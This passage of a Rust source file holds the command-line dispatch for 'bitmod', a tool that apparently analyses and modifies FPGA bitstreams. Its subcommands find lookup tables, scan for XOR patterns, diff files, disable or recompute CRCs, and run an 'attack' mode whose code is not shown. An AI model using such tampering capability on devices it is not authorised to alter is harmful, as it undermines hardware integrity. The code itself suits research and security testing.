        }
        _ => unreachable!("run_client called for '{cmd}'"),
    }
    Ok(())
}

fn run() -> Result<(), Box<dyn std::error::Error>> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let usage = "bitmod (findlut|table2|xorscan|packets|crc|diff|attack\
                 |serve|submit|status|tail|cancel|shutdown) <file> [...]";
    let (cmd, rest) = args.split_first().ok_or(usage)?;
    match cmd.as_str() {
        "attack" => return run_attack(rest),
        "serve" => return run_serve(rest),
        "submit" | "status" | "tail" | "cancel" | "shutdown" => return run_client(cmd, rest),
        _ => {}
    }
    let (file, rest) = rest.split_first().ok_or(usage)?;
    let bs = Bitstream::from_bytes(std::fs::read(file)?);

    let mut stride = cli::default_stride();
    let mut window: Option<(usize, usize)> = None;
    let mut json = false;
    let mut disable = false;
    let mut recompute = false;
    let mut out_path: Option<String> = None;
    let mut positional: Vec<&String> = Vec::new();
    let mut it = rest.iter();
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--stride" => {
                stride = it.next().ok_or("--stride needs a value")?.parse()?;
            }
            "--window" => {
                let spec = it.next().ok_or("--window needs A..B")?;
                let (a, b) = spec.split_once("..").ok_or("--window needs A..B")?;
                window = Some((a.parse()?, b.parse()?));
            }
            "--json" => json = true,
            "--disable" => disable = true,
            "--recompute" => recompute = true,
            "-o" => out_path = Some(it.next().ok_or("-o needs a path")?.clone()),
            flag if flag.starts_with('-') => {
                return Err(format!("unknown option '{flag}'; {usage}").into());
            }
            _ => positional.push(arg),
        }
    }

    match cmd.as_str() {
        "findlut" => {
            let f = positional.first().ok_or("findlut needs a function")?;
            print!("{}", cli::cmd_findlut(&bs, f, stride, json)?);
        }
        "table2" => print!("{}", cli::cmd_table2(&bs, stride, json)?),
        "xorscan" => print!("{}", cli::cmd_xorscan(&bs, stride, window)?),
        "packets" => print!("{}", cli::cmd_packets(&bs)),
        "diff" => {
            let other = positional.first().ok_or("diff needs a second file")?;
            let b = Bitstream::from_bytes(std::fs::read(other)?);
            print!("{}", cli::cmd_diff(&bs, &b));
        }
        "crc" => {
            if disable == recompute {
                return Err("crc needs exactly one of --disable / --recompute".into());
            }
            let (fixed, msg) = cli::cmd_crc(&bs, disable);
            println!("{msg}");
            let out = out_path.unwrap_or_else(|| format!("{file}.out"));
            std::fs::write(&out, fixed.as_bytes())?;
            println!("wrote {out}");
        }
        other => return Err(format!("unknown command '{other}'; {usage}").into()),
    }
    Ok(())
}

fn main() -> ExitCode {
    match run() {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("bitmod: {e}");
            ExitCode::FAILURE
        }
    }
}
